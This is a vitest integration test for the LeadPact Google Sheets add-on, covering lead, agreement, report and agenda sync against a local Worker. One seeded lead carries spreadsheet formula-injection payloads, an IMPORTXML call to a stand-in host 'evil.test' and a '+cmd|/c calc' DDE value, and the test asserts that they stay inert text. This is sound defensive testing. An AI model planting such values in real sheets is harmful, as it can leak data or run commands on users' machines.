import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_STEPS, type DemoState, seedDemo } from '../../../scripts/seed.mjs';
import { buildAddon } from '../../../scripts/sheets-build.mjs';
import { startWorkerServer, type WorkerServer } from '../worker-server';
import { appsScriptContext, loadBundle } from './fakes/apps-script-globals';
import { type FakeServices, fakeServices } from './fakes/fake-services';
import { a1, WRITE_CALLS } from './fakes/fake-spreadsheet';
import { SyncFetcher } from './fakes/sync-fetch';
import { type SeededTeam, seedTeam } from './team-seed';

/**
 * The built bundle (not the modules) in a bare V8 context with the fakes,
 * against the real Worker in workerd with a migrated local D1, seeded through
 * the API.
 */
let server: WorkerServer;
let demo: DemoState;
let stateDir = '';
const fetcher = new SyncFetcher();
let fake: FakeServices;
let addon: Record<string, (...args: unknown[]) => unknown>;
let shareUrl = '';
/** A second team working in Polish, in its own sheet. */
let polish: SeededTeam;
let fakePl: FakeServices;
let addonPl: Record<string, (...args: unknown[]) => unknown>;

async function api(method: string, path: string, token: string, body?: unknown) {
  const res = await fetch(`${server.url}${path}`, {
    method,
    // `Prefer: wait` matters only to intake: it answers the judged lead instead of 202.
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', prefer: 'wait=5' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${await res.text()}`);
  return (await res.json()) as Record<string, unknown>;
}

beforeAll(async () => {
  await buildAddon();
  server = await startWorkerServer();
  stateDir = await mkdtemp(join(tmpdir(), 'leadpact-addon-'));
  demo = await seedDemo({
    baseUrl: server.url,
    adminSecret: server.adminSecret,
    stateFile: join(stateDir, 'state.json'),
    steps: DEMO_STEPS,
  });
  const contact = demo.sources?.contact?.id ?? '';
  // A lead whose name is a formula: it must land as text.
  await api('POST', `/v1/intake/${contact}`, demo.tokens.intake ?? '', {
    email: 'mallory@evil.test',
    phone: '+48 600 999 999',
    firstName: '=IMPORTXML("http://evil.test","//a")',
    lastName: '',
    company: '+cmd|/c calc',
    consent: true,
  });
  shareUrl = String((await api('POST', '/v1/agreement/share', demo.tokens.admin ?? '')).url);
  fake = fakeServices({ fetcher });
  addon = await loadBundle(appsScriptContext(fake));
  polish = await seedTeam(server.url, server.adminSecret, { language: 'pl' });
  fakePl = fakeServices({ fetcher });
  addonPl = await loadBundle(appsScriptContext(fakePl));
}, 240_000);

afterAll(async () => {
  await fetcher.close();
  await server?.dispose();
  if (stateDir) await rm(stateDir, { recursive: true, force: true });
});

describe('the built add-on against the real Worker', () => {
  it('should connect and show workspace, role and member', () => {
    addon.onOpen?.({});
    addon.saveConnection?.({ apiUrl: server.url, token: demo.tokens.sales });
    const check = addon.testConnection?.() as {
      ok: boolean;
      workspace: { name: string };
      caller: { role: string; memberName: string };
    };
    expect(check.ok).toBe(true);
    expect(check.workspace.name).toBe('Demo Manufacturing Sp. z o.o.');
    expect(check.caller).toEqual({
      role: 'sales',
      memberId: demo.members.salesLead,
      memberName: 'Sorin Popescu',
    });
  });

  it('should fill the Leads tab with one read and one write, formula text kept as text', () => {
    fake.log.reset();
    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
    expect(result.ok).toBe(true);
    expect(result.written).toContain('leads');
    expect(fake.log.count('UrlFetchApp.fetch')).toBe(1);
    expect(fake.log.count('Range.getValues', 'Leads')).toBeLessThanOrEqual(1);
    expect(fake.log.count('Range.setValues', 'Leads')).toBe(1);
    const sheet = fake.spreadsheet.sheet('Leads');
    const grid = sheet.dump();
    expect(grid[0]?.[0]).toMatch(/^LeadPact · refreshed .+ from 127\.0\.0\.1:\d+$/);
    expect(grid[1]?.slice(0, 4)).toEqual(['Lead ID', 'Version', 'Sync check', 'Name']);
    const header = grid[1] ?? [];
    const col = (name: string) => header.indexOf(name);
    const rows = grid.slice(2);
    expect(rows).toHaveLength(4);
    const byEmail = new Map(rows.map((r) => [r[col('E-mail')], r]));
    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Name')]).toBe('Jan Kowalski');
    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Stage')]).toBe('MQL');
    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('SLA')]).toBe('On time');
    expect(byEmail.get('jan.kowalski@stalmet.pl')?.[col('Phone')]).toBe('+48600100200');
    expect(byEmail.get('olga@zavod.ru')?.[col('Stage')]).toBe('Lead');
    const mallory = byEmail.get('mallory@evil.test');
    expect(mallory?.[col('Name')]).toBe('=IMPORTXML("http://evil.test","//a")');
    expect(mallory?.[col('Company')]).toBe('+cmd|/c calc');
    // Nothing LeadPact wrote became a formula.
    for (const cell of sheet.cells.values()) expect(cell.formula).toBeNull();
    expect(fake.spreadsheet.timeZone).toBe('Europe/Warsaw');
    expect(sheet.frozenRows).toBe(2);
    expect(sheet.rules.map((r) => r.background)).toEqual(['#f4c7c3', '#fce8b2', '#b7e1cd']);
    expect(sheet.rules[0]?.formula).toContain('="Breached"');
    expect(sheet.cell(2, col('Action') + 1).background).toBe('#ffffff');
    expect(sheet.cell(2, col('Lead ID') + 1).background).toBe('#c9daf8');
    expect(sheet.cell(2, col('Stage') + 1).background).toBe('#e8eaed');
    expect(sheet.cell(3, col('Action') + 1).validation?.values).toContain('Call attempt');
    expect(sheet.cell(3, col('Due') + 1).numberFormat).toBe('yyyy-mm-dd hh:mm');
    expect(sheet.protections.map((p) => [p.description, p.warningOnly])).toEqual([
      ['LeadPact: identity column', true],
    ]);
  });

  it('should fill the Agreement tab in one write: in force, who signed each side and when, the share link', () => {
    expect(fake.log.count('Range.setValues', 'Agreement')).toBe(1);
    expect(fake.log.count('Range.getValues', 'Agreement')).toBe(0);
    const sheet = fake.spreadsheet.sheet('Agreement');
    const grid = sheet.dump();
    expect(grid[0]?.[0]).toMatch(/^LeadPact · refreshed .+ from 127\.0\.0\.1:\d+$/);
    const row = (label: string) => grid.find((r) => r[0] === label) ?? [];
    expect(row('Status')[1]).toBe('In force');
    expect(row('What it means')[1]).toBe('Version 1 is signed and active: SLA clocks run under it.');
    expect(row('Active version')[1]).toBe(1);
    expect(row('Read-only page for the company')[1]).toBe(shareUrl);
    expect(shareUrl).toMatch(/\/a\/ws_[0-9A-Z]{26}_[A-Za-z0-9_-]{43}$/);
    expect(row('Proposal waiting for signatures')[1]).toBe('none');
    const signatures = grid.findIndex((r) => r[0] === 'Signatures of version 1');
    expect(grid.slice(signatures + 2, signatures + 5).map((r) => r.slice(0, 2))).toEqual([
      ['Marketing', 'Marta Nowak'],
      ['Sales', 'Sorin Popescu'],
      ['Management', 'not required'],
    ]);
    // Signed at: a date-time serial shown in the workspace's format.
    const signedAt = sheet.cell(signatures + 3, 3);
    expect(typeof signedAt.value).toBe('number');
    expect(signedAt.numberFormat).toBe('yyyy-mm-dd hh:mm');
    expect(sheet.frozenRows).toBe(2);
    expect(sheet.cell(2, 1).fontWeight).toBe('bold');
    expect(sheet.cell(signatures + 2, 1).background).toBe('#e8eaed');
    const statusRow = grid.findIndex((r) => r[0] === 'Status') + 1;
    expect(fake.spreadsheet.namedRanges.get('LeadPact_AgreementStatus')).toBe(`Agreement!B${statusRow}`);
    for (const cell of sheet.cells.values()) expect(cell.formula).toBeNull();
  });

  it('should fill the Report and Agenda tabs: numbers with formats, tables named, items with who and what to decide', () => {
    for (const tab of ['Report', 'Agenda']) {
      expect(fake.log.count('Range.setValues', tab)).toBe(1);
      expect(fake.log.count('Range.getValues', tab)).toBe(0);
    }
    const report = fake.spreadsheet.sheet('Report');
    const grid = report.dump();
    expect(grid[0]?.[0]).toMatch(/^LeadPact · refreshed /);
    expect(String(grid[1]?.[0])).toMatch(/^Report for \d+ \w+ \d{4} – \d+ \w+ \d{4}$/);
    const leadRows = fake.spreadsheet.sheet('Leads').dump().length - 2;
    const at = (label: string) => grid.findIndex((r) => r[0] === label) + 1;
    expect(report.cell(at('Leads'), 2).value).toBe(leadRows);
    const mqls = report.cell(at('MQLs'), 2).value as number;
    expect(mqls).toBeGreaterThan(0);
    expect(report.cell(at('Lead → MQL'), 2).value).toBe(Math.round((mqls / leadRows) * 10_000) / 10_000);
    expect(report.cell(at('Lead → MQL'), 2).numberFormat).toBe('0.0%');
    expect(report.cell(at('Won revenue'), 2).numberFormat).toMatch(/#,##0\.00/);
    expect(report.cell(at('Leads'), 2).numberFormat).toBe('#,##0');
    const totals = at('Leads');
    expect(fake.spreadsheet.namedRanges.get('LeadPact_ReportTotals')).toMatch(
      new RegExp(`^Report!A${totals}:B\\d+$`),
    );
    const source = grid.findIndex((r) => r[0] === 'Website contact form');
    expect(grid[source]?.[1]).toBe(leadRows);
    const bySource = grid.findIndex((r) => r[0] === 'Source') + 1;
    expect(fake.spreadsheet.namedRanges.get('LeadPact_ReportBySource')).toMatch(
      new RegExp(`^Report!A${bySource}:K\\d+$`),
    );

    const agenda = fake.spreadsheet.sheet('Agenda').dump();
    expect(String(agenda[1]?.[0])).toMatch(/^Weekly marketing–sales meeting, \d{4}-W\d{2}$/);
    const header = agenda.findIndex((r) => r[0] === '#');
    expect(agenda[header]).toEqual(['#', 'Topic', 'Detail', 'Who', 'To decide']);
    expect(agenda[header + 1]?.slice(0, 2)).toEqual([1, 'MQLs handed over']);
    expect(agenda[header + 1]?.[4]).toBe('Who works each untouched lead, and by when?');
    expect(fake.spreadsheet.namedRanges.get('LeadPact_Agenda')).toMatch(
      new RegExp(`^Agenda!A${header + 1}:E\\d+$`),
    );
    for (const tab of ['Report', 'Agenda'])
      for (const cell of fake.spreadsheet.sheet(tab).cells.values()) expect(cell.formula).toBeNull();
  });

  it('should write nothing when nothing changed', () => {
    fake.log.reset();
    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
    expect(result.ok).toBe(true);
    expect(result.written).toEqual([]);
    expect(fake.log.count('UrlFetchApp.fetch')).toBe(1);
    expect([...fake.log.counts].filter(([name]) => WRITE_CALLS.has(name))).toEqual([]);
    expect(fake.log.writes()).toBe(0);
    expect(fake.log.count('Range.getValues')).toBe(0);
  });

  it('should rewrite only the lead that changed, in its row even after the rows were sorted', async () => {
    const sheet = fake.spreadsheet.sheet('Leads');
    const header = sheet.dump()[1] ?? [];
    const emailColumn = header.indexOf('E-mail') + 1;
    // A person sorts the data rows by e-mail descending (Sheets moves whole rows) and types a note.
    const data = [3, 4, 5, 6].map((r) =>
      Array.from({ length: header.length }, (_, c) => ({ ...sheet.cell(r, c + 1) })),
    );
    data.sort((a, b) => String(b[emailColumn - 1]?.value).localeCompare(String(a[emailColumn - 1]?.value)));
    data.forEach((row, i) => {
      row.forEach((cell, c) => {
        sheet.cells.set(`${i + 3}:${c + 1}`, cell);
      });
    });
    const janRow =
      [3, 4, 5, 6].find((r) => sheet.cell(r, emailColumn).value === 'jan.kowalski@stalmet.pl') ?? 0;
    sheet.type(janRow, header.indexOf('Note') + 1, 'called, no answer');
    const leads = (await api('GET', '/v1/leads', demo.tokens.sales ?? '')) as {
      data: Array<{ id: string; email: string }>;
    };
    const jan = leads.data.find((l) => l.email === 'jan.kowalski@stalmet.pl');
    // Routing may give Jan to a rep; the manager may act on any lead, the sales lead only on their own.
    await api('POST', `/v1/leads/${jan?.id}/actions`, demo.tokens.manager ?? '', {
      type: 'attempt',
      channel: 'phone',
      outcome: 'no_answer',
    });

    fake.log.reset();
    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
    // The attempt moves the report and the agenda too; the agreement did not change and is not written.
    expect(result.written).toEqual(['leads', 'report', 'agenda']);
    expect(fake.log.count('Range.getValues', 'Leads')).toBe(1);
    expect(fake.log.count('Range.setValues', 'Leads')).toBe(1);
    expect(sheet.cell(janRow, emailColumn).value).toBe('jan.kowalski@stalmet.pl');
    expect(sheet.cell(janRow, header.indexOf('Attempts') + 1).value).toBe(1);
    expect(sheet.cell(janRow, header.indexOf('Last action') + 1).value).toBe('Contact attempt');
    expect(sheet.cell(janRow, header.indexOf('Note') + 1).value).toBe('called, no answer');
    const others = [3, 4, 5, 6].filter((r) => r !== janRow);
    for (const r of others) expect(sheet.cell(r, header.indexOf('Attempts') + 1).value).toBe(0);
  });

  it('should say why in row 1 when the Worker cannot be reached, and keep the values', () => {
    const sheet = fake.spreadsheet.sheet('Leads');
    const before = sheet.dump().slice(1);
    const agreement = fake.spreadsheet.sheet('Agreement');
    const agreementBefore = agreement.dump().slice(1);
    fake.setUnreachable(true);
    const result = addon.refreshAll?.() as { ok: boolean; message: string };
    fake.setUnreachable(false);
    expect(result.ok).toBe(false);
    expect(sheet.cell(1, 1).value).toMatch(
      /^⚠ LeadPact could not refresh this tab at .+: LeadPact cannot be reached/,
    );
    expect(sheet.dump().slice(1)).toEqual(before);
    expect(agreement.cell(1, 1).value).toBe(sheet.cell(1, 1).value);
    expect(agreement.cell(1, 1).fontColor).toBe('#a50e0e');
    expect(agreement.dump().slice(1)).toEqual(agreementBefore);
    // The next refresh that reaches the Worker puts the freshness line back.
    const back = addon.refreshAll?.() as { ok: boolean };
    expect(back.ok).toBe(true);
    expect(String(sheet.cell(1, 1).value)).toMatch(/^LeadPact · refreshed/);
    expect(String(agreement.cell(1, 1).value)).toMatch(/^LeadPact · refreshed/);
    expect(agreement.cell(1, 1).fontColor).toBe('#000000');
    expect(sheet.cell(1, 1).fontColor).toBe('#000000');
    // Every tab the refresh wrote, the Funnel plan included, is back from the failure's red.
    const funnel = fake.spreadsheet.sheet('Funnel plan');
    expect(String(funnel.cell(1, 1).value)).toMatch(/^LeadPact · refreshed/);
    expect(funnel.cell(1, 1).fontColor).toBe('#000000');
    expect(agreement.dump().slice(1)).toEqual(agreementBefore);
  });

  it('should keep the named ranges over the rows as the tabs grow, and bring back one a person deleted', async () => {
    const named = fake.spreadsheet.namedRanges;
    const width = fake.spreadsheet.sheet('Leads').dump()[1]?.length ?? 0;
    expect(named.get('LeadPact_Leads')).toBe(`Leads!A3:${a1(6, width).replace(/\d+$/, '')}6`);
    named.delete('LeadPact_Leads');
    await api('POST', `/v1/intake/${demo.sources?.contact?.id}`, demo.tokens.intake ?? '', {
      email: 'new.buyer@huta.pl',
      phone: '+48 600 300 400',
      firstName: 'Nowy',
      lastName: 'Kupiec',
      company: 'Huta',
      consent: true,
    });
    fake.log.reset();
    const result = addon.refreshAll?.() as { ok: boolean; written: string[] };
    expect(result.written).toContain('leads');
    expect(result.written).toContain('report');
    expect(named.get('LeadPact_Leads')).toBe(`Leads!A3:${a1(7, width).replace(/\d+$/, '')}7`);
    // Names that exist are moved, not added again: one read of the names per tab written.
    expect(fake.log.count('Spreadsheet.getNamedRanges')).toBe(result.written.length);
    expect(fake.log.count('Spreadsheet.setNamedRange')).toBe(1);
    const report = fake.spreadsheet.sheet('Report').dump();
    const totals = report.findIndex((r) => r[0] === 'Leads') + 1;
    expect(report[totals - 1]?.[1]).toBe(5);
    expect(named.get('LeadPact_ReportTotals')).toMatch(new RegExp(`^Report!A${totals}:B\\d+$`));
  });
});

describe('the built add-on for a team working in Polish', () => {
  it('should write the read-only tabs in Polish, and the error row in Polish when the Worker is down', () => {
    addonPl.saveConnection?.({ apiUrl: server.url, token: polish.members.sales.token });
    const result = addonPl.refreshAll?.() as { ok: boolean; written: string[] };
    expect(result.ok).toBe(true);
    expect(result.written).toContain('agreement');
    const agreement = fakePl.spreadsheet.sheet('Umowa SLA');
    const grid = agreement.dump();
    expect(grid[0]?.[0]).toMatch(/^LeadPact · odświeżono /);
    const row = (label: string) => grid.find((r) => r[0] === label) ?? [];
    expect(row('Status')[1]).toBe('Obowiązuje');
    expect(row('Obowiązująca wersja')[1]).toBe(1);
    expect(row('Strona tylko do odczytu dla firmy')[1]).toMatch(/^Nie udostępniono/);
    const signatures = grid.findIndex((r) => r[0] === 'Podpisy wersji 1');
    expect(grid.slice(signatures + 2, signatures + 5).map((r) => r.slice(0, 2))).toEqual([
      ['Marketing', polish.members.marketing.name],
      ['Sprzedaż', polish.members.sales.name],
      ['Zarząd', 'niewymagany'],
    ]);
    expect(fakePl.spreadsheet.locale).toBe('pl_PL');
    const report = fakePl.spreadsheet.sheet('Raport').dump();
    expect(String(report[1]?.[0])).toMatch(/^Raport za okres /);
    expect(report.find((r) => r[0] === 'Leady')?.[1]).toBe(0);
    const agenda = fakePl.spreadsheet.sheet('Agenda').dump();
    expect(agenda.find((r) => r[0] === 'Nr')).toEqual(['Nr', 'Temat', 'Szczegóły', 'Kto', 'Do decyzji']);

    fakePl.setUnreachable(true);
    const failed = addonPl.refreshAll?.() as { ok: boolean };
    fakePl.setUnreachable(false);
    expect(failed.ok).toBe(false);
    expect(String(agreement.cell(1, 1).value)).toMatch(/^⚠ LeadPact nie mógł odświeżyć tej karty o /);
    expect(agreement.dump().slice(1)).toEqual(grid.slice(1));
    for (const tab of ['Raport', 'Agenda'])
      expect(String(fakePl.spreadsheet.sheet(tab).cell(1, 1).value)).toBe(agreement.cell(1, 1).value);
  });
});
